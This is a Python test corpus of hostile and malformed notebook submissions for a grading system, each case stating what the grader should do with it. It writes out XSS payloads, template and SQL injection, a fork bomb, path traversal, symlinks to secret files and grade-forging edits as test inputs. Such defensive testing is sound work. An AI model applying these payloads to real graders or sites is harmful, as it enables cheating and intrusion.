"""The corpus: each function hands in one hostile or damaged submission and says what is to come of it."""

from __future__ import annotations

import copy
import gzip
import json
import os
from typing import Any

from tests.grading.hostile.cases import (
    CASES,
    EVERYTHING,
    NOTEBOOK,
    Scene,
    add,
    answers,
    attack,
    beside,
    each_test,
    edited,
    every_test,
    link,
    reflection,
    spliced,
)

__all__ = ["CASES", "WORDS"]


# ---- Tags, flags, ids and points of cells: all of them come from the release, so that nothing changes.


def tagged(*tags: str) -> Any:
    return every_test(lambda cell: cell["metadata"].update(tags=list(tags)))


def flagged(**flags: Any) -> Any:
    return every_test(lambda cell: cell["metadata"]["nbgrader"].update(flags))


add("tag_skip_execution", tagged("skip-execution"))
add("tag_raises_exception", tagged("raises-exception", "remove_cell", "hide"))
add("tags_of_wrong_type", every_test(lambda cell: cell["metadata"].update(tags={"skip-execution": True})))
add("grade_flag_off", flagged(grade=False))
add("solution_flag_on", flagged(solution=True))
add("locked_flag_off", flagged(locked=False))
add("task_flag_on", flagged(task=True))
add("points_of_a_billion", flagged(points=1e9))
add("points_as_text", flagged(points="100"))
add("points_negative", flagged(points=-5))
add("checksum_forged", flagged(checksum="0" * 32))
add("schema_version_0", flagged(schema_version=0))
add("schema_version_99", flagged(schema_version=99))
add("schema_version_text", flagged(schema_version="3"))
add("foreign_grade_ids", every_test(lambda cell: cell["metadata"]["nbgrader"].update(grade_id="mine-" + cell["id"])))
add("grade_id_a_list", flagged(grade_id=["m1-sort"]))
add("nbgrader_metadata_a_list", every_test(lambda cell: cell["metadata"].update(nbgrader=[1, 2])))
add("nbgrader_metadata_gone", every_test(lambda cell: cell["metadata"].pop("nbgrader")))
add("cell_metadata_null", every_test(lambda cell: cell.update(metadata=None)))
add("tests_become_markdown", every_test(lambda cell: (cell.update(cell_type="markdown"), cell.pop("outputs"))))
add("tests_become_raw", every_test(lambda cell: cell.update(cell_type="raw")))
add("unknown_cell_type", every_test(lambda cell: cell.update(cell_type="evil")))
add("score_in_the_metadata", every_test(lambda cell: cell["metadata"].update(score=99, jejaring={"points": 99})))


@attack()
def points_not_a_number(scene: Scene) -> None:
    scene.write(
        json.dumps(scene.notebook()).replace('"points": 6.0', '"points": NaN').replace('"points": 6', '"points": NaN')
    )


@attack()
def swapped_grade_ids(scene: Scene) -> None:
    notebook = scene.notebook()
    cells = list(each_test(notebook))
    ids = [cell["metadata"]["nbgrader"]["grade_id"] for cell in cells]
    for cell, name in zip(cells, reversed(ids), strict=True):
        cell["metadata"]["nbgrader"]["grade_id"] = name
    scene.write(notebook)


# ---- Cells deleted, doubled, moved, damaged.


@attack()
def tests_deleted(scene: Scene) -> None:
    notebook = scene.notebook()
    tests = list(each_test(notebook))
    notebook["cells"] = [cell for cell in notebook["cells"] if cell not in tests]
    scene.write(notebook)


add("all_cells_deleted", edited(lambda notebook: notebook.update(cells=[])), answered=False)
add("cells_an_object", edited(lambda notebook: notebook.update(cells={"0": {}})), answered=False)
add("cells_gone", edited(lambda notebook: notebook.pop("cells")), answered=False)
add("cells_of_no_use", edited(lambda notebook: notebook["cells"].extend([None, 1, "x", [], {}])))
add("cells_reversed", edited(lambda notebook: notebook["cells"].reverse()))
add("same_cell_ids", edited(lambda notebook: [cell.update(id="same") for cell in notebook["cells"]]))
add("cell_ids_of_wrong_type", edited(lambda notebook: [cell.update(id={"a": 1}) for cell in notebook["cells"]]))
add("test_cells_doubled", edited(lambda notebook: notebook["cells"].extend(copy.deepcopy(list(each_test(notebook))))))
add(
    "forty_thousand_cells",
    edited(lambda notebook: notebook["cells"].extend({"cell_type": "code"} for _ in range(40_000))),
)


@attack()
def reflection_doubled(scene: Scene) -> None:
    notebook = scene.notebook()
    other = copy.deepcopy(reflection(notebook))
    other["source"] = "Teks kedua, yang terakhir dihitung."
    notebook["cells"].append(other)
    scene.write(notebook)


add("reflection_becomes_code", edited(lambda n: reflection(n).update(cell_type="code", source="print(1)", outputs=[])))
add("reflection_locked", edited(lambda n: reflection(n)["metadata"]["nbgrader"].update(locked=True, solution=False)))
add("reflection_source_a_number", edited(lambda n: reflection(n).update(source=7)))
add("reflection_source_nested", edited(lambda n: reflection(n).update(source=[["a"], {"b": 1}, "teks"])))


# ---- The notebook as a whole.


add("kernelspec_bash", edited(lambda n: n["metadata"].update(kernelspec={"name": "bash", "display_name": "Bash"})))
add("kernelspec_traversal", edited(lambda n: n["metadata"].update(kernelspec={"name": "../../../tmp/evil"})))
add("kernelspec_provisioner", edited(lambda n: n["metadata"].update(kernel_provisioner={"provisioner_name": "local"})))
add("nbformat_3", edited(lambda n: n.update(nbformat=3, worksheets=[{"cells": n["cells"]}])))
add("nbformat_99", edited(lambda n: n.update(nbformat=99, nbformat_minor=-1)))
add("nbformat_of_four_hundred_digits", edited(lambda n: n.update(nbformat=10**400, nbformat_minor=-(10**400))))
add("nbformat_text", edited(lambda n: n.update(nbformat="four")))
add("language_info_odd", edited(lambda n: n["metadata"].update(language_info={"name": "<script>", "version": []})))
add(
    "widget_state",
    edited(
        lambda n: n["metadata"].update(
            widgets={
                "application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_module": "http://evil/x.js"}}}
            }
        )
    ),
)
add(
    "metadata_of_other_tools",
    edited(lambda n: n["metadata"].update({f"tool{i}": {"execute": "rm", "path": "/etc"} for i in range(1000)})),
)
add("jupytext_pairs", edited(lambda n: n["metadata"].update(jupytext={"formats": "ipynb,/tmp//py:percent"})))
add("title_with_script", edited(lambda n: n["metadata"].update(title="<script>alert(1)</script>")))


# ---- Code, which is shown and never run.


def added_code(source: str, at: int = 10_000) -> Any:
    def play(scene: Scene) -> None:
        notebook = scene.notebook()
        cell = {"cell_type": "code", "execution_count": 1, "id": "mine", "metadata": {}, "outputs": [], "source": ""}
        cell["source"] = source.replace("CODE", scene.code())
        notebook["cells"].insert(at, cell)
        scene.write(notebook)

    return play


add("code_at_the_end", added_code("CODE"))
add("code_at_the_beginning", added_code("CODE", 0))
add("code_patches_the_kernel", added_code("get_ipython().kernel.do_execute = None\nCODE", 0))
add("code_endless", added_code("while True:\n    pass"))
add("code_forks", added_code("import os\nwhile True:\n    os.fork()"))
add("code_magic", added_code("%%bash\ntouch MARK\nCODE"))
add("code_reads_the_gradebook", added_code("open('../../../gradebook.db', 'rb').read()\nCODE"))
add("code_with_script", added_code("</code></div><script>alert(1)</script><img src=x onerror=alert(1)>"))


@attack()
def locked_cells_altered(scene: Scene) -> None:
    notebook = scene.notebook()
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["source"] = f"{scene.code()}\n100"
    scene.write(notebook)


@attack()
def setup_replaced(scene: Scene) -> None:
    notebook = scene.notebook()
    notebook["cells"][0]["source"] = f"{scene.code()}\ngrade = lambda *_: 100\nshow = lesson = grade"
    scene.write(notebook)


def forged_output(cell: dict[str, Any]) -> None:
    data = {"text/plain": "100", "text/html": "<script>alert(1)</script>"}
    cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": data}]


add("outputs_forged", every_test(forged_output))
add(
    "outputs_of_three_megabytes",
    every_test(lambda c: c.update(outputs=[{"output_type": "stream", "name": "stderr", "text": "x" * 180_000}])),
)


# ---- Files beside the notebook, none of which anybody reads.


for name in (
    "nbgrader_config.py",
    "sitecustomize.py",
    "usercustomize.py",
    "json.py",
    "ipykernel_launcher.py",
    "jejaring/__init__.py",
    "jejaring.py",
    "conftest.py",
    ".jupyter/jupyter_config.py",
    ".ipynb_checkpoints/1-memberi-checkpoint.ipynb",
    "gradebook.db",
    "release/1-memberi/1-memberi.ipynb",
    "index.html.j2",
):
    add(f"beside_{name.replace('/', '_').replace('.', '_').replace('-', '_')}", beside(name))


@attack()
def five_hundred_files(scene: Scene) -> None:
    scene.write(scene.notebook())
    for number in range(500):
        (scene.folder / f"z{number}.py").write_text(scene.code())


@attack()
def odd_file_names(scene: Scene) -> None:
    scene.write(scene.notebook())
    for name in ("-rf", "a\nb.ipynb", "$(touch x).py", "..\\..\\x", "x" * 200, "*.ipynb", "\u202egnp.ipynb"):
        (scene.folder / name).write_text(scene.code())


@attack()
def link_beside(scene: Scene) -> None:
    scene.write(scene.notebook())
    link(scene, "data.csv", scene.secret)
    link(scene, "everything", scene.secret.parent)


# ---- What is not a regular file, or not the one asked for.


@attack(refused="not_file")
def notebook_is_a_link(scene: Scene) -> None:
    link(scene, NOTEBOOK, scene.secret)


@attack(refused="not_file")
def notebook_is_a_link_to_a_neighbour(scene: Scene) -> None:
    link(scene, NOTEBOOK, scene.neighbour / NOTEBOOK)


@attack(refused="not_file")
def notebook_is_a_link_to_zeros(scene: Scene) -> None:
    (scene.folder / NOTEBOOK).symlink_to("/dev/zero")


@attack(refused="not_file")
def notebook_is_a_broken_link(scene: Scene) -> None:
    (scene.folder / NOTEBOOK).symlink_to("/nowhere/at/all")


@attack(refused="not_file")
def notebook_is_a_hard_link(scene: Scene) -> None:
    os.link(scene.secret, scene.folder / NOTEBOOK)


@attack(refused="not_file")
def notebook_is_a_pipe(scene: Scene) -> None:
    os.mkfifo(scene.folder / NOTEBOOK)


@attack(refused="not_file")
def notebook_is_a_folder(scene: Scene) -> None:
    (scene.folder / NOTEBOOK).mkdir()
    (scene.folder / NOTEBOOK / NOTEBOOK).write_text("{}")


@attack(refused="folder")
def folder_is_a_link(scene: Scene) -> None:
    scene.folder.rmdir()
    scene.folder.symlink_to(scene.neighbour)


@attack(refused="none")
def nothing_handed_in(scene: Scene) -> None:
    (scene.folder / "jawaban.docx").write_bytes(b"PK\x03\x04")


@attack()
def renamed(scene: Scene) -> None:
    scene.write(scene.notebook(), "Tugas Budi (1).ipynb")


@attack()
def renamed_copy_beside(scene: Scene) -> None:
    other = scene.notebook()
    answers(other).clear()
    scene.write(other, "0-memberi (salinan).ipynb")
    scene.write(scene.notebook())


@attack()
def the_lesson_in_the_other_language(scene: Scene) -> None:
    notebook = scene.notebook()
    notebook["metadata"]["jejaring"]["assignment"] = "1-giving"
    scene.write(notebook, "1-giving.ipynb")


@attack()
def bytes_latin(scene: Scene) -> None:
    notebook = scene.notebook()
    reflection(notebook)["source"] = "Ditulis di kafé, disimpan dalam sandi lain."
    scene.write(json.dumps(notebook, ensure_ascii=False).replace("\u201c", '\\"').encode("latin-1", "replace"))


@attack(refused="too_large")
def a_hole_of_a_terabyte(scene: Scene) -> None:
    with (scene.folder / NOTEBOOK).open("wb") as file:
        file.truncate(2**40)


@attack(refused="several")
def renamed_twice(scene: Scene) -> None:
    scene.write(scene.notebook(), "satu.ipynb")
    scene.write(scene.notebook(), "dua.ipynb")


@attack(refused="other")
def another_assignment(scene: Scene) -> None:
    notebook = scene.notebook()
    notebook["metadata"]["jejaring"].update(assignment="2-mendengar", lesson="m2_listening")
    scene.write(notebook)


# ---- Times, of which only a believable one beside the notebook counts.


def timed(data: bytes) -> Any:
    def play(scene: Scene) -> None:
        scene.write(scene.notebook())
        (scene.folder / "timestamp.txt").write_bytes(data)

    return play


add("time_garbage", timed(b"\xff\x00 yesterday"))
add("time_long_ago", timed(b"0001-01-01 00:00:00 UTC"))
add("time_far_away", timed(b"9999-12-31 23:59:59 UTC"))
add("time_of_a_megabyte", timed(b"2" * 1_000_000))
add("time_in_an_odd_zone", timed(b"2026-11-24 03:00:00 +99:99"))
add("time_with_a_null_byte", timed(b"2026-11-24 03:00:00 UTC\0"))
add("time_with_foreign_zone", timed(b"2026-11-24 03:00:00 ../../etc/passwd"))


@attack()
def time_is_a_pipe(scene: Scene) -> None:
    scene.write(scene.notebook())
    os.mkfifo(scene.folder / "timestamp.txt")


@attack()
def time_is_a_link(scene: Scene) -> None:
    scene.write(scene.notebook())
    link(scene, "timestamp.txt", scene.secret)


# ---- Bytes that are not the JSON of a notebook.


add("bytes_empty", lambda scene: scene.write(b""), refused="not_json")
add("bytes_random", lambda scene: scene.write(bytes(range(256)) * 40), refused="not_json")
add("bytes_packed", lambda scene: scene.write(gzip.compress(json.dumps(scene.notebook()).encode())), refused="not_json")
add("bytes_zero", lambda scene: scene.write(b"\0" * 4_000_000), refused="not_json")
add("bytes_after_the_end", lambda scene: scene.write(json.dumps(scene.notebook()) * 2), refused="not_json")
add("bytes_cut", lambda scene: scene.write(json.dumps(scene.notebook()).encode()[:-200]), refused="not_json")
add("bytes_utf16", lambda scene: scene.write(json.dumps(scene.notebook()).encode("utf-16")), refused="not_json")
add("json_a_list", lambda scene: scene.write("[]"), refused="not_notebook")
add("json_a_number", lambda scene: scene.write("7"), refused="not_notebook")
add("json_null", lambda scene: scene.write("null"), refused="not_notebook")
add("json_name_twice", spliced('"cells":', '"cells": [], "cells":'), refused="duplicate")
add("json_answer_twice", spliced('"m1.sort":', '"m1.sort": {"value": null}, "m1.sort" :'), refused="duplicate")
add("json_half_a_character_as_a_name", spliced('"m1.sort":', '"\\ud800": {"value": 1}, "m1.sort":'))
add("json_open_depth", spliced('"m1.sort":', '"x":' + "[" * 100_000 + ', "m1.sort":'), refused="not_json")
add("bytes_of_seventy_megabytes", lambda scene: scene.write(b" " * 70_000_000 + b"{}"), refused="too_large")


@attack(refused="too_large")
def many_long_texts(scene: Scene) -> None:
    notebook = scene.notebook()
    notebook["cells"] += [{"cell_type": "markdown", "metadata": {}, "source": "x" * 150_000} for _ in range(60)]
    scene.write(json.dumps(notebook))


# ---- Answers: a damaged one costs itself.


def answered(**values: Any) -> Any:
    return edited(lambda n: [answers(n)[f"m1.{name}"].update(value=value) for name, value in values.items()])


def enveloped(**envelopes: Any) -> Any:
    return edited(lambda n: answers(n).update({f"m1.{name}": value for name, value in envelopes.items()}))


def raw(name: str, written: str) -> Any:
    """A value that Python's JSON writer does not write."""

    def play(scene: Scene) -> None:
        notebook = scene.notebook()
        answers(notebook)[name]["value"] = "HERE"
        scene.write(json.dumps(notebook).replace('"HERE"', written))

    return play


add("answer_nan", raw("m1.sort", "NaN"), lost="m1-sort")
add("answer_infinite", raw("m1.case1", "[Infinity, -Infinity]"), lost="m1-case1")
add("answer_nan_within", raw("m1.sort", '{"places": {"c01": NaN}}'), lost="m1-sort")
add("answer_hundred_thousand_digits", raw("m1.recall1", "9" * 100_000), lost="m1-recall1")
add("answer_five_thousand_digits", raw("m1.recall1", "9" * 5_000), lost="m1-recall1")
add("answer_twenty_five_digits", raw("m1.recall1", "9" * 25), lost="m1-recall1")
add("answer_exponent", raw("m1.trust", '{"prediction": null, "plan": {"t": 1e999}, "runs": 1}'), lost="m1-trust")
add("answer_deep", raw("m1.sort", "[" * 100_000 + "]" * 100_000), lost="m1-sort")
add("answer_deep_objects", raw("m1.sort", '{"a":' * 50_000 + "1" + "}" * 50_000), lost="m1-sort")
add("answer_of_fifty_megabytes", raw("m1.sort", json.dumps("x" * 50_000_000)), lost="m1-sort")
add("answer_half_characters", raw("m1.case2", '{"choice": "\\ud800"}'), lost="m1-case2")
for name, value in {
    "a_list": [],
    "a_text": "c",
    "a_number": 5,
    "true": True,
    "places_a_list": {"places": [1]},
    "places_of_numbers": {"places": {"c01": 1}},
    "unknown_card": {"places": {"zz": "give"}},
    "unknown_place": {"places": {"c01": "zz"}},
    "thousand_cards": {"places": {f"c{i}": "give" for i in range(1000)}},
}.items():
    add(f"sort_is_{name}", answered(sort=value), lost="m1-sort")
for name, value in {
    "list": {"choice": ["a", "b"]},
    "object": {"choice": {"$eq": 1}},
    "long_id": {"choice": "x" * 10_000},
    "unknown": {"choice": "__class__"},
    "extra_score": {"choice": None, "score": 100, "points": 100},
}.items():
    add(f"choice_is_{name}", answered(case1=value), lost="m1-case1")
for name, value in {
    "runs_huge": {"plan": {}, "runs": 10**9, "prediction": None},
    "plan_text": {"plan": "__import__('os').system('id')", "runs": 1, "prediction": None},
    "plan_huge": {"plan": [0] * 100_000, "runs": 1, "prediction": None},
    "plan_negative": {"plan": dict.fromkeys(("give", "ask", "days"), -1e308), "runs": 1, "prediction": None},
}.items():
    add(f"simulator_{name}", answered(trust=value), lost="m1-trust")
add("compose_fields_a_list", answered(rewrite={"fields": [1, 2]}), lost="m1-rewrite")
add("envelope_a_list", enveloped(sort=[1, 2, 3]), lost="m1-sort")
add("envelope_null", enveloped(sort=None), lost="m1-sort")
add("envelope_forged", edited(lambda n: [a.update(score=99, points=99, done="<script>") for a in answers(n).values()]))
add("time_of_answer_forged", edited(lambda n: [a.update(at={"x": 1}, changes=-5) for a in answers(n).values()]))
add("answers_to_what_is_not_asked", enveloped(**{f"q{i}": {"value": "<script>alert(1)</script>"} for i in range(150)}))
add("answer_names_that_are_code", enveloped(**{"../x": {"value": 1}}))
add("sort_is_a_prototype", answered(sort={"__proto__": {"places": {}}, "constructor": 1}), lost="m1-sort")
add("answer_wide", raw("m1.sort", "[" + "[]," * 1_600_000 + "[]]"), lost="m1-sort")
add("answers_by_the_thousand", enveloped(**{f"q{i}": {"value": 1} for i in range(1000)}), lost=EVERYTHING)
for name, own in {"list": [], "text": "x", "number": 3, "null": None}.items():
    lost = EVERYTHING
    add(f"answer_sheet_a_{name}", edited(lambda n, own=own: n["metadata"].update(jejaring=own)), lost=lost)  # type: ignore[misc]
for name, own in {"list": [1], "text": "x", "null": None}.items():
    add(f"answers_a_{name}", edited(lambda n, own=own: n["metadata"]["jejaring"].update(answers=own)), lost=EVERYTHING)  # type: ignore[misc]
for odd in ("m1.sort\u200b", "m1.\uff53ort", "M1.SORT", "m1.sort\0", "__proto__"):
    add(
        f"answer_named_{ascii(odd)[1:-1].replace(chr(92), '_')}",
        edited(lambda n, odd=odd: answers(n).update({odd: {"value": {"places": {}}}})),  # type: ignore[misc]
    )
for name, schema in {"0": 0, "99": 99, "text": "1", "true": True, "gone": None}.items():
    add(
        f"answer_schema_{name}",
        edited(lambda n, schema=schema: n["metadata"]["jejaring"].update(schema=schema)),  # type: ignore[misc]
        lost=EVERYTHING,
    )
add("metadata_a_list", edited(lambda n: n.update(metadata=[1, 2])), lost=EVERYTHING)
add("metadata_gone", edited(lambda n: n.pop("metadata")), lost=EVERYTHING)


# ---- Words that would do something if they were not shown as text: in every field there is.

WORDS = {
    "script": "<script>alert(1)</script></div></section><script src=http://evil/x.js></script>",
    "svg": '<svg onload=alert(1)><script>alert(1)</script></svg><img src=x onerror="alert(1)">',
    "links": "[klik](javascript:alert(1)) <a href='javascript:alert(1)'>a</a> ![](data:text/html;base64,PHN2Zz4=)",
    "frames": "<iframe src=http://evil></iframe><object data=x></object><form action=http://evil><input name=x>",
    "bidi": "\u202egnihtemos\u202c \u2066x\u2069 \u200bnol\u200d \u00ad \ufeff",
    "tex": "$\\require{html}\\href{javascript:alert(1)}{x}$ $$\\unicode{x3c}$$",
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} {0.__class__.__mro__} %s %(x)s ${x}",
    "controls": "\x1b[2J\x07 a\x00b \x9b31m \r\n\x85",
    "sql": "'); DROP TABLE grade; --",
    "markdown": "# Judul\n\n|a|b|\n|-|-|\n\n```{code-cell}\nx\n```\n<!-- \n\n[x]: javascript:alert(1)",
}


def said(words: str) -> Any:
    def edit(notebook: dict[str, Any]) -> None:
        reflection(notebook)["source"] = words
        given = answers(notebook)
        given["m1.trust"]["value"]["note"] = words
        given["m1.plan"] = {"value": {"fields": {"who": words, "when": words}, "checked": []}}
        notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": words})
        notebook["cells"].append({"cell_type": "raw", "metadata": {}, "source": words})

    return edited(edit)


for name, words in WORDS.items():
    add(f"words_{name}", said(words))


@attack()
def attachments(scene: Scene) -> None:
    notebook = scene.notebook()
    cell = reflection(notebook)
    cell["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"}}
    cell["source"] = "![x](attachment:x.svg)"
    scene.write(notebook)


add("reflection_of_a_megabyte", edited(lambda n: reflection(n).update(source="kata " * 200_000)))
add(
    "reflection_untouched",
    edited(lambda n: reflection(n).update(source="Tulis refleksi Anda di sini.")),
    answered=False,
)
add("byte_order_mark", lambda scene: scene.write(b"\xef\xbb\xbf" + json.dumps(scene.notebook()).encode()))
